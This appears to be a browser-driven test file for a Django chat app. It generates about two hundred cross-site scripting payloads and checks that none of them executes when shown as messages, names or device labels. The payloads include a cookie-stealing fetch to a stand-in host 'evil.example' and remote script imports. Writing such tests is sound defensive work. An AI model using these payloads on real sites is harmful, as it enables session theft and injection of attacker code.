"""Two hundred ways to smuggle a script into words, shown in a real browser: nothing runs, nothing leaves."""

import pytest

from beenthere.conversations.actions import Draft, open_conversation, send_messages
from beenthere.foundation.refs import SITE
from beenthere.people.actions import sign_in
from tests.cast import person

pytestmark = pytest.mark.django_db(databases=["default", "keys"], transaction=True)
RUN = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "parent.hit=1",
    "window.hit=2",
    "import('//evil.example/x.js')",
)
FORMS = """
<script>{run}</script>|<img src=x onerror="{run}">|<svg onload="{run}">|<svg><script>{run}</script></svg>|
"><script>{run}</script>|'><img src=x onerror={run}>|</textarea><script>{run}</script>|</title><script>{run}</script>|
</style><script>{run}</script>|--><script>{run}</script>|<iframe srcdoc="<script>{run}</script>"></iframe>|
<iframe src="javascript:{run}"></iframe>|<a href="javascript:{run}" autofocus>x</a>|<body onload="{run}">|
<details open ontoggle="{run}">x</details>|<input autofocus onfocus="{run}">|<video><source onerror="{run}"></video>|
<object data="javascript:{run}"></object>|<embed src="//evil.example/x.swf">|<base href="//evil.example/">|
<link rel=stylesheet href="//evil.example/x.css">|<meta http-equiv=refresh content="0;url=//evil.example/">|
<math><mtext><style><img src=x onerror="{run}">|<form action="//evil.example/"><button autofocus>x</button></form>|
<template shadowrootmode=open><script>{run}</script></template>|<bt-passkey data-options="{run}">|
<marquee onstart="{run}">x</marquee>|<style>@import '//evil.example/x.css'</style>|<img src="//evil.example/p.gif">|
<svg><use href="data:image/svg+xml,<svg onload={run}>"/></svg>|<svg><animate onbegin="{run}" attributeName=x>|
<audio src=x onerror="{run}">|<select autofocus onfocus="{run}">|<p hx-get="//evil.example/" hx-trigger=load>|
{{% load ui %}}{{{{ {run} }}}}|${{{run}}}|{{{{constructor.constructor('{run}')()}}}}|javascript:{run}|
data:text/html,<script>{run}</script>|&lt;script&gt;{run}&lt;/script&gt;|\u2028<script>{run}</script>|
<scr\u0000ipt>{run}</scr\u0000ipt>|＜script＞{run}＜/script＞|<ſcript>{run}</ſcript>|<img/src/onerror={run}>|
<div style="background:url(//evil.example/)">x</div>|" onmouseover="{run}" x="|' autofocus onfocus='{run}' x='|
`onerror=`{run}|<xss id=x tabindex=1 onfocus="{run}">
""".replace("\n", "")  # noqa: E501 -- one after the other
PAYLOADS = [form.format(run=run).replace("\0", "") for form in FORMS.split("|") for run in RUN]


def test_there_are_two_hundred():
    assert len(set(PAYLOADS)) >= 190


def test_nothing_runs_and_nothing_leaves(served_place, new_profile, settings):
    ana, ben = person("Ana"), person("Ben <script>alert(1)</script>")
    talk = open_conversation(people=[(ana, "Ana"), (ben, '"><img src=x onerror=alert(1)>')], by=SITE)
    drafts = [Draft(ben.ref, talk.ref, f"mark-{n}", words) for n, words in enumerate(PAYLOADS)]
    for start in range(0, len(drafts), 50):
        send_messages(drafts[start : start + 50])
    _, token = sign_in(person=ana, device='<img src=x onerror="alert(1)">', by=ana)
    profile = new_profile(base_url=served_place.address)
    profile.add_cookies([{"name": settings.SIGN_IN_COOKIE, "value": token, "url": served_place.address}])
    profile.add_init_script(
        "addEventListener('securitypolicyviolation', () => (window.violated = (window.violated ?? 0) + 1))"
    )
    page, dialogs = profile.new_page(), []
    page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
    seen = []
    for address in (f"/talk/{talk.ref}/", "/talk/", "/me/"):
        page.goto(address)
        page.wait_for_timeout(300)
        seen.append(
            page.evaluate(
                "[window.hit ?? 0, window.violated ?? 0, document.querySelectorAll('.words script').length]"
            )
        )
    assert (dialogs, seen) == ([], [[0, 0, 0]] * 3)
